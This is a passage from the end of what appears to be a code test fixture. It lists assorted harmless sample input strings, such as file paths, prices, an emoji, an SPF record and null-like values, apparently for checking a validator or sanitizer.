    '#ff0000', 'c++ templates', 'node.js vs deno', 'C:\\Users\\anna\\Documents\\notes.txt', '/home/anna/projects/app/README.md', 'en-US,en;q=0.9',
    '3/4 cup sugar', '10% + 5% = 15%?', '🙂👍 great', 'key=value; other=thing', 'SELECT', 'drop', 'a-b_c.d~e', '100.64.0.0/10 is CGNAT', '$19.99',
    'price > 10 && price < 20', '*', '', 'true', 'null', '-1', '0x1F', '(c) 2024 Example Ltd.', 'v=spf1 include:_spf.google.com ~all',
  ],
};
